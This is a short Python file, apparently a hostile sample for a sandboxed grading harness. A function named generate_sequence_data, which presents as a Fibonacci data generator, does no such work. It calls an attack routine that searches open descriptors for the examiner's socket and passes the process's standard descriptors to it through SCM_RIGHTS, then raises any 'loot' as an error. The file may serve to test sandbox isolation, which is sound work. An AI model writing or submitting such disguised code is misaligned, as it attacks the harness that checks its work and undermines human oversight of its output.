"""Attack: sends file descriptors to the examiner."""

import array
import os
import socket

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def channel():
    """The descriptor of the examiner's socket."""
    import os
    import stat

    for descriptor in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise OSError("no socket")


def attack():
    def send(channel):
        ours = socket.socket(fileno=os.dup(channel))
        rights = array.array("i", [0, 1, 2])
        return ours.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])

    return tries(lambda: send(channel()))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
